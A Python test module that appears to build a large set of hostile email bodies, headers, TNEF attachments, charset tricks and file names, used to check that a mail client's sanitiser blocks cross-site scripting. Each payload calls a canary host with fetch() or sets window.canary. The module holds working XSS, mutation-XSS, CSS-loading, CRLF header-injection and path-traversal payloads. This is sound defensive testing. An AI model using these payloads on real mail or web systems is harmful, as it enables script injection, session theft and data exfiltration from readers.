"""Mail made to hurt whoever reads it, from the public classes of cross-site scripting. Whatever fires, loads or submits
does it towards CANARY, or sets window.canary: neither may ever be seen."""
import base64
import struct

CANARY = "canary.invalid"
RUN = f"window.canary=1;top.canary=1;fetch('https://{CANARY}/x')"
LOAD = f"https://{CANARY}/l"

EVENTS = ("abort animationend animationstart beforetoggle blur canplay change click copy cut dblclick drag error focus "
          "focusin hashchange input invalid keydown load loadedmetadata loadstart message mouseenter mouseover pageshow "
          "paste pointerenter pointerover popstate progress readystatechange resize scroll select show submit toggle "
          "touchstart transitionend unload wheel").split()
HOSTS = ["img src=x", "body", "video src=x", "audio src=x", "input autofocus", "details open", "select autofocus",
         "textarea autofocus", "marquee", "svg", "math", "iframe src=x", "object data=x", "a href=# autofocus"]


def by_events():
    return [f"<{HOSTS[i % len(HOSTS)]} on{event}=\"{RUN}\">x</{HOSTS[i % len(HOSTS)].split()[0]}>"
            for i, event in enumerate(EVENTS)] + [
        f"<img/src='x'/onerror={RUN}>", f"<IMG SRC=x OnErRoR=\"{RUN}\">", f"<img src=x\tonerror\n=\n'{RUN}'>",
        f"<img src=`x` onerror=`{RUN}`>", f"<img src=x:x onerror\x0b={RUN}>", f"<img \x00src=x onerror={RUN}>",
        f"<<img src=x onerror={RUN}>", f"<img src=x onerror={RUN}//", f"<img src=\"x\" title=\"a\"onerror=\"{RUN}\">",
        f"<img src=x onerror=&#119;indow.canary&#61;1>", f"<img src=x one&#114;ror={RUN}>",
    ]


def by_scripts():
    return [f"<script>{RUN}</script>", f"<SCRIPT SRC={LOAD}.js></SCRIPT>", f"<script/x>{RUN}</script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>",
            f"<script\n>{RUN}</script\n>", f"<script type=module>{RUN}</script>", f"<script type=text/vbscript>{RUN}</script>",
            f"<script src=data:,{RUN}></script>", f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\">",
            f"<template><script>{RUN}</script></template>", f"<div><template shadowrootmode=open><script>{RUN}</script></template></div>",
            f"<link rel=import href={LOAD}>", f"<link rel=preload as=script href={LOAD}>", f"<link rel=prefetch href={LOAD}>",
            f"<link rel=dns-prefetch href=//{CANARY}>", f"<link rel=stylesheet href={LOAD}.css>", f"<link rel=icon href={LOAD}.ico>",
            f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->", f"<!--><script>{RUN}</script>-->", f"<!--!><script>{RUN}</script>",
            f"<?xml-stylesheet href='{LOAD}'?><script>{RUN}</script>", f"<![CDATA[<script>{RUN}</script>]]>"]


def by_addresses():
    shapes = ["javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "java\tscript:{}", "java\nscript:{}", "&#106;avascript:{}",
              "javascript&colon;{}", "javascript&#58;{}", "\x01javascript:{}", "vbscript:{}", "data:text/html,<script>{}</script>",
              "data:text/html;base64," + base64.b64encode(f"<script>{RUN}</script>".encode()).decode(),
              "data:image/svg+xml,<svg onload={} xmlns='http://www.w3.org/2000/svg'/>", "blob:{}", "filesystem:{}", "about:blank#{}", "//" + CANARY + "/{}"]
    places = ["<a href=\"{}\">x</a>", "<img src=\"{}\">", "<iframe src=\"{}\"></iframe>", "<form action=\"{}\"><button>x</button></form>",
              "<object data=\"{}\"></object>", "<area href=\"{}\">", "<base href=\"{}\">"]
    return [place.format(shape.format("window.canary=1")) for shape in shapes for place in places]


def by_loading():
    return [part.replace("{{", "{").replace("}}", "}").replace("{}", LOAD) for part in (
        "<img src={}>", "<img srcset='{} 2x'>", "<picture><source srcset={}><img></picture>", "<video src={} autoplay></video>",
        "<video poster={}></video>", "<audio src={} autoplay></audio>", "<track src={}>", "<embed src={}>", "<object data={}></object>",
        "<iframe src={}></iframe>", "<iframe srcdoc=\"<img src='{}'>\"></iframe>", "<frameset><frame src={}></frameset>", "<input type=image src={}>",
        "<body background={}>", "<table background={}><tr><td background={}>x</td></tr></table>", "<div style='background:url({})'>x</div>",
        "<p style=\"list-style-image:url({})\">x</p>", "<style>@import '{}';</style>", "<style>@import url({});</style>", "<style>*{{background:url({})}}</style>",
        "<style>@font-face{{font-family:a;src:url({})}}*{{font-family:a}}</style>", "<style>body::before{{content:url({})}}</style>",
        "<svg><image href={} /></svg>", "<svg><use href={}#a /></svg>", "<svg><feImage href={} /></svg>", "<svg><style>@import '{}';</style></svg>",
        "<meta http-equiv=refresh content='0;url={}'>", "<meta http-equiv=Content-Security-Policy content=\"img-src *\"><img src={}>",
        "<img src='{}' loading=eager>", "<a href=/ ping={}>x</a>", "<q cite={}>x</q>", "<blockquote cite={}>x</blockquote>", "<del cite={}>x</del>",
        "<img longdesc={}>", "<img lowsrc={}>", "<img dynsrc={}>", "<isindex action={}>", "<bgsound src={}>", "<layer src={}></layer>", "<portal src={}>",
        "<math href={}>x</math>", "<math><mtext><img src={}></mtext></math>", "<img src='cid:x\" onerror=\"fetch(&quot;{}&quot;)'>")]


def by_mutation():
    tail = f"<img src=x onerror=\"{RUN}\">"
    return [
        f"<svg></p><style><a id=\"</style>{tail}\">", f"<math><mtext><table><mglyph><style><!--</style>{tail}", f"<svg><style>&lt;{tail}</style>",
        f"<math><annotation-xml encoding=text/html>{tail}</annotation-xml></math>", f"<svg><foreignObject>{tail}</foreignObject></svg>",
        f"<form><math><mtext></form><form><mglyph><style></math>{tail}", f"<table><td><svg><desc></table>{tail}", f"<xmp><p title=\"</xmp>{tail}\">",
        f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>", f"<plaintext>{tail}", f"<noembed><p title=\"</noembed>{tail}\">", f"<noframes><p title=\"</noframes>{tail}\">",
        f"<textarea><p title=\"</textarea>{tail}\">", f"<title><p title=\"</title>{tail}\">", f"<iframe><p title=\"</iframe>{tail}\">", f"<select><style></select>{tail}",
        f"<p title='`onmouseover={RUN}'>", f"<p title=\"&lt;/p>{tail}\">", f"<a title=\"a\x00b\">{tail}", f"<svg><title><style><img title=\"</style>{tail}\">",
        f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text>x</text></a></svg>", f"<svg><set attributeName=onmouseover to={RUN} />",
        f"<svg><script href=data:,{RUN} />", f"<svg><script xlink:href={LOAD} />", f"<svg onload={RUN}>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
        f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>", f"<math xlink:href=javascript:{RUN}>x</math>",
        f"<div style=width:expression({RUN})>x</div>", f"<div style=\"-moz-binding:url({LOAD})\">x</div>", f"<div style=behavior:url({LOAD})>x</div>",
        f"<x style=animation-name:a onanimationstart={RUN}>x</x>", f"<div onclick={RUN} style=position:fixed;inset:0>x</div>", f"<style>*{{position:fixed}}</style>",
        f"<keygen autofocus onfocus={RUN}>", f"<dialog open><form method=dialog>{tail}</form></dialog>", f"<input type=hidden oncontentvisibilityautostatechange={RUN}>",
        f"<button popovertarget=a>x</button><div popover id=a onbeforetoggle={RUN}>x</div>", f"<a id=canary><a id=canary name=csrf>x</a>", f"<form id=ecrire><input name=action></form>",
        f"<img name=getElementById><img name=cookie>", f"<body><body onload={RUN}>", f"</body></html>{tail}", f"<html manifest={LOAD}>", f"<frameset onload={RUN}>",
    ]


def by_style():
    """CSS that loads, that covers our page, that hides its name from a list of words."""
    values = ["background:url({})", "background-image:\\75rl({})", "background:u/**/rl({})", "background:URL(  '{}'  )", "list-style:url({})",
              "cursor:url({}),auto", "border-image:url({}) 1", "content:url({})", "mask:url({})", "filter:url({}#a)", "shape-outside:url({})",
              "background:image-set('{}' 1x)", "background:-webkit-image-set(url({}) 1x)", "background:cross-fade(url({}),url({}))", "--a:url({});background:var(--a)",
              "width:expression(window.canary=1)", "-moz-binding:url({}#x)", "behavior:url({})", "position:fixed;inset:0;z-index:99999;background:red",
              "background:url(data:image/svg+xml,<svg onload=window.canary=1>)"]
    sheets = ["@import '{}'", "@import url({}) screen", "@charset 'x';@import \"{}\"", "@namespace url({})", "a{{}}@font-face{{font-family:b;src:local(x),url({})}}p{{font-family:b}}",
              "input[value^=a]{{background:url({})}}", "@media screen{{p{{background:url({})}}}}", "@supports (display:grid){{p{{content:url({})}}}}", "</style><img src={}>"]
    fill = lambda part: part.replace("{{", "{").replace("}}", "}").replace("{}", LOAD)
    return [f'<p style="{fill(value)}">x</p>' for value in values] + [f"<style>{fill(sheet)}</style><p>x</p>" for sheet in sheets]


def by_content_id():
    """cid: and data: are for pictures of the message itself, of a kind that runs nothing."""
    inside = base64.b64encode(f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN}\"><script>{RUN}</script></svg>".encode()).decode()
    page = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()
    names = ["cid:a", "CID:a", "cid:../../../etc/passwd", "cid:%00", f"cid:a\" onerror=\"{RUN}", "cid:a' onload='" + RUN, "cid://" + CANARY + "/a", "cid:" + LOAD,
             "cid:javascript:window.canary=1", f"data:image/svg+xml;base64,{inside}", f"data:image/svg+xml;charset=utf-8;base64,{inside}", f"data:text/html;base64,{page}",
             f"data:application/xhtml+xml;base64,{page}", f"data:text/xml;base64,{page}", "data:,window.canary=1", f"data:image/png,<script>{RUN}</script>", f"DATA:image/SVG+xml;base64,{inside}"]
    return [f"<{tag}{name}'>" for name in names for tag in ("img src='", "embed src='", "a href='")]


def html_bodies() -> list:
    return by_events() + by_scripts() + by_addresses() + by_loading() + by_mutation() + by_style() + by_content_id()


def tnef(*attributes) -> bytes:
    """winmail.dat ([MS-OXTNEF] 2.1.3): signature, key, then level, name, length, bytes and their sum, each."""
    out = struct.pack("<IH", 0x223E9F78, 1)
    for level, name, content in attributes:
        out += struct.pack("<BII", level, name, len(content)) + content + struct.pack("<H", sum(content) & 0xFFFF)
    return out


def tnefs() -> list:
    script, subject, body, title, data = f"<script>{RUN}</script>".encode() + b"\0", 0x00018004, 0x0002800C, 0x00018010, 0x0006800F
    return [tnef((1, subject, script), (1, body, script)), tnef((2, title, b"a.html\0"), (2, data, script)), tnef((2, title, script), (2, data, b"x")),
            tnef((1, 0x00069003, struct.pack("<IHHI", 1, 0x0102, 0x1013, 1) + script)), tnef((2, title, b"../../x.svg\0"), (2, data, b"<svg onload=" + RUN.encode() + b">")),
            b"\x78\x9f\x3e\x22" + b"A" * 200, struct.pack("<IHBII", 0x223E9F78, 1, 1, body, 0xFFFFFFFF) + script]


def header_lines() -> list:
    """Header fields that would end, begin another, or break out of where a page shows them."""
    word = lambda text: "=?utf-8?b?" + base64.b64encode(text.encode()).decode() + "?="
    img = f"<img src=x onerror={RUN}>"
    return [f"Subject: {word('a' + chr(13) + chr(10) + 'Content-Type: text/html' + chr(13) + chr(10) * 2 + img)}", "Subject: =?utf-8?q?a=0D=0AX-Injected:_1?=", f"Subject: {word(img)}",
            f"Subject: =?utf-7?q?+ADw-img src=3Dx onerror=3D{RUN}+AD4-?=", f"From: {word(img)} <a@lab.autre-operateur.mssante.fr>", f'From: "{img}" <a@lab.autre-operateur.mssante.fr>',
            f"From: <{img}@lab.autre-operateur.mssante.fr>", f"To: {word(chr(34) + '><script>' + RUN + '</script>')} <b@c.fr>", f"Date: {img}", f"Message-ID: <{img}>",
            f"In-Reply-To: <{img}>", f"Reply-To: {word(img)} <javascript:{RUN}>", f"Disposition-Notification-To: {word(img)} <a@b.fr>", f"X-MSS-CODECDA: {img}", f"List-Unsubscribe: <javascript:{RUN}>",
            f"Content-Type: text/html; charset=\"{img}\"", f"Content-Type: text/html; name=\"{img}\"", "Content-Type: text/html\r\n ; charset=utf-7", "Content-Type: image/svg+xml",
            "Content-Disposition: inline; filename*=UTF-8''%3Cimg%20src%3Dx%20onerror%3Dwindow.canary%3D1%3E", "Content-Disposition: attachment; filename*0=\"a.pdf%0D%0AX-\"; filename*1=\"I: 1\"",
            f"Content-Location: {LOAD}", f"Content-Base: {LOAD}", f"Link: <{LOAD}>; rel=preload", "Refresh: 0; url=" + LOAD, "Set-Cookie: __Host-caducee=x", "Content-Security-Policy: default-src *"]


def charset_tricks() -> list:
    """(charset of the part, bytes)."""
    script = f"<script>{RUN}</script>"
    return [
        ("utf-7", script.replace("<", "+ADw-").replace(">", "+AD4-").encode()), ("utf-16", script.encode("utf-16")),
        ("utf-16le", script.encode("utf-16-le")), ("utf-32", script.encode("utf-32")), ("iso-2022-jp", b"\x1b$B<script>\x1b(B" + script.encode()),
        ("x-user-defined", script.encode()), ("us-ascii", bytes((b | 0x80) for b in script.encode())), ("hz-gb-2312", b"~{<img~}" + script.encode()),
        ("gb18030", b"<img title=\"\x81\" onerror=" + RUN.encode() + b" src=x>"), ("shift_jis", b"<img title=\"\x83\" src=x onerror=" + RUN.encode() + b">"),
        ("utf-8", b"<img title=\"\xc0\" src=x onerror=" + RUN.encode() + b" \">"), ("utf-8", b"\xef\xbb\xbf" + script.encode()), ("nonsense", script.encode()),
        ("ibm037", script.encode("cp037")), ("utf-8\"; x=\"", script.encode()), ("iso-8859-1", b"<scr\xadipt>" + RUN.encode() + b"</scr\xadipt>"),
    ]


NAMES = [f"\"><img src=x onerror={RUN}>.pdf", "a.pdf\r\nX-Injected: 1", "../../etc/passwd", "facture.pdf.exe", "<svg onload=alert(1)>.svg", "‮fdp.exe",
         "a\x00.pdf", "con.txt", "a;b=\"c\".pdf", "'><script>" + RUN + "</script>.png"]
LINES = [f"<script>{RUN}</script>", f"\"><img src=x onerror={RUN}>", f"javascript:{RUN}", f"https://a.fr/\" onmouseover=\"{RUN}", f"</title><script>{RUN}</script>",
         f"{{{{constructor.constructor('{RUN}')()}}}}", f"${{{RUN}}}", f"<!--<script>{RUN}</script>-->"]
